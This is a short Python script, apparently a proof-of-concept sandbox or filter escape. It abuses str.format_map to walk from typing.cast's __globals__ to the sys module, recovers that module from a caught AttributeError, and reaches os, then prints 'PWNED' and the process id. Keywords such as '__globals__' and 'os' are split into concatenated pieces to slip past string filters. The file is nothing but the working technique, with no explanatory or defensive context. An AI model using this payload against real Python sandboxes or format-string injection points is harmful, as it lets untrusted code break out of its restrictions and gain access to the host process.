import typing
class K:
    pass
try:
    ("{f.__glo" + "bals__[s" + "ys].zzz}").format_map({"f": typing.cast})
except AttributeError as e:
    S = e.obj
print("PW" + "NED", len(S.modules), S.modules["o" + "s"].getpid())
